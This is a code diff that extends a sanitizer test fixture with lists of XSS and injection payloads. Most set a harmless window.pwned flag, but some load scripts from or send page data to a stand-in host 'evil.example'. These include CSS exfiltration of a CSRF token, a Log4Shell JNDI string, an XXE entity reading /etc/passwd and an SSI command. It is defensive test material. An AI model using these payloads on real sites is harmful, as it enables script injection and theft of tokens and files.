@@ -47,7 +47,7 @@ const tags = [
   '<x',
   '<x/',
   '<\0script>window.pwned=1</script>',
-  '\u003cscript\u003ewindow.pwned=1\u003c/script\u003e',
+  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
   '\uff1cscript\uff1ewindow.pwned=1',
   '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
 ];
@@ -99,6 +99,119 @@ const json = [
   '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=1>"}},"__v":1}',
 ];
 
+/** Elements and attributes that are run, loaded or framed in less usual ways. */
+const rareElements = [
+  '<details open name=x ontoggle=window.pwned=1><summary>',
+  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.pwned=1>',
+  '<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=window.pwned=1>',
+  '<div style="content-visibility:auto" oncontentvisibilityautostatechange=window.pwned=1>',
+  '<p style="animation:x 1s" onanimationstart=window.pwned=1>',
+  '<p tabindex=1 style="transition:color 1s" ontransitionend=window.pwned=1>',
+  '<p contenteditable oncopy=window.pwned=1 onpaste=window.pwned=1 onbeforeinput=window.pwned=1>',
+  '<p draggable=true ondragstart=window.pwned=1>',
+  '<frameset onload=window.pwned=1><frame src=javascript:window.pwned=1>',
+  '<fencedframe src=//evil.example></fencedframe>',
+  '<map name=m><area href=javascript:window.pwned=1 shape=default></map><img usemap=#m>',
+  '<track kind=metadata src=x oncuechange=window.pwned=1>',
+  '<video poster=javascript:window.pwned=1 onloadstart=window.pwned=1 src=x>',
+  '<applet code=x archive=//evil.example/x.jar>',
+  '<bgsound src=javascript:window.pwned=1>',
+  '<custom-element onclick=window.pwned=1 is=x-evil>',
+  '<template shadowrootmode=open><script>window.pwned=1</script></template>',
+  '<slot onslotchange=window.pwned=1>',
+  '<script type=module>import"//evil.example/x.js"</script>',
+  '<script type=importmap>{"imports":{"a":"//evil.example/x.js"}}</script>',
+  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
+  '<link rel=modulepreload href=//evil.example/x.js>',
+  '<meta http-equiv=Content-Security-Policy content="script-src *">',
+  '<meta http-equiv=Set-Cookie content="grantry=evil">',
+  '<meta charset=utf-7>',
+  '<meta name=referrer content=unsafe-url>',
+];
+
+/** SVG and MathML have rules of their own for what is text and what leads somewhere. */
+const foreign = [
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.pwned=1</script></svg>#x"/>',
+  '<svg><a><animate attributeName=href values=javascript:window.pwned=1 /><text y=20>x</text></a>',
+  '<svg><set attributeName=onmouseover to=window.pwned=1>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>">',
+  '<svg><discard onbegin=window.pwned=1>',
+  '<svg><image href=x onerror=window.pwned=1>',
+  '<svg><title><script>window.pwned=1</script>',
+  '<svg><handler type=text/javascript ev:event=load>window.pwned=1</handler>',
+  '<svg><style>*{background:url(//evil.example)}</style>',
+  '<math><annotation-xml encoding="text/html"><script>window.pwned=1</script></annotation-xml>',
+  '<math><maction actiontype=statusline xlink:href=javascript:window.pwned=1>x',
+  '<math href=javascript:window.pwned=1>x</math>',
+];
+
+/** What one parser reads as text and the next one, after it was written out once, as an element (mXSS). */
+const mutating = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">',
+  '<noscript><style></noscript><img src=x onerror=window.pwned=1></style>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>',
+  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.pwned=1>">',
+  '<table><td><form><table></td></table><script>window.pwned=1</script>',
+  '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
+  '<noembed><p title="</noembed><script>window.pwned=1</script>">',
+  '<a href="x`<img src=x onerror=window.pwned=1>`">',
+  '<!--!><img src=x onerror=window.pwned=1>-->',
+  '<!--<script>--></script><script>window.pwned=1</script>',
+  '<![if IE]><script>window.pwned=1</script><![endif]>',
+];
+
+/** Without a script: what is on the page is sent elsewhere, covered, or taken for something else. */
+const scriptless = [
+  "<img src='//evil.example/?",
+  '<base target="',
+  '<form action=//evil.example><textarea name=rest>',
+  '<button form=connect formaction=//evil.example formmethod=get>',
+  '<input type=hidden name=csrf-token value=evil>',
+  '<input form=connect name=decision value=confirm>',
+  '<img name=body><img name=cookie>',
+  '<form id=document><input name=cookie></form>',
+  '<a id=defaultView href=evil:x>',
+  '<style>input[name=csrf-token][value^=A]{background:url(//evil.example/A)}</style>',
+  '<style>@font-face{font-family:x;src:url(//evil.example);unicode-range:U+0041}</style>',
+  '<p style="position:fixed;inset:0;background:red">',
+];
+
+/** Separators, quotes and entities that attributes and parsers read in ways of their own. */
+const spellings = [
+  '"\vonfocus\v=\vwindow.pwned=1\v',
+  '"/onfocus/=/window.pwned=1/autofocus/',
+  '\x22\x00onfocus=window.pwned=1 autofocus',
+  '"onfocus="window.pwned=1"autofocus="',
+  "'-window.pwned=1-'",
+  '"=""onfocus=window.pwned=1 autofocus',
+  '&#x0000000000022; onfocus=window.pwned=1 autofocus',
+  '&#34onfocus=window.pwned=1 autofocus',
+  '&QUOT;&GT;&LT;script&GT;',
+  'javascript&NewLine;:window.pwned&equals;1',
+  '&lpar;&rpar;&lbrace;&rbrace;&grave;',
+  '\u00bf\u005c"><script>window.pwned=1</script>',
+  '\x1b$B"><script>window.pwned=1</script>\x1b(B',
+  '\u02ba\u02b9\uff02\uff07\u2039script\u203a',
+  '<\u0131mg src=x onerror=window.pwned=1><\u017fcript>window.pwned=1',
+];
+
+/** Languages of templates and servers, none of which anything here should read. */
+const languages = [
+  '{{7*7}}{%print(7*7)%}{#x#}',
+  '<#assign x="freemarker.template.utility.Execute"?new()>$\x7bx("id")}',
+  '[[$\x7b7*7}]]__$\x7b7*7}__::.x',
+  '#set($x=7*7)$x',
+  '<!--#exec cmd="id"--><!--#include virtual="/etc/passwd"-->',
+  '<esi:include src=//evil.example/>',
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  '<?php echo 1 ?><?= 1 ?>',
+  '$\x7bjndi:ldap://evil.example/x}',
+  '[x](javascript:window.pwned=1)![x](x"onerror="window.pwned=1)',
+  '[url=javascript:window.pwned=1]x[/url]',
+  ')]}\',\n{"a":1}',
+];
+
 /** Addresses that must not become a link or a form's target. */
 export const forbiddenAddresses = [
   'javascript:window.pwned=1',
@@ -146,4 +259,15 @@ export const forbiddenAddresses = [
   'https://ok.example\0',
 ];
 
-export const payloads: readonly string[] = [...tags, ...attributes, ...json, ...forbiddenAddresses];
+export const payloads: readonly string[] = [
+  ...tags,
+  ...attributes,
+  ...json,
+  ...rareElements,
+  ...foreign,
+  ...mutating,
+  ...scriptless,
+  ...spellings,
+  ...languages,
+  ...forbiddenAddresses,
+];
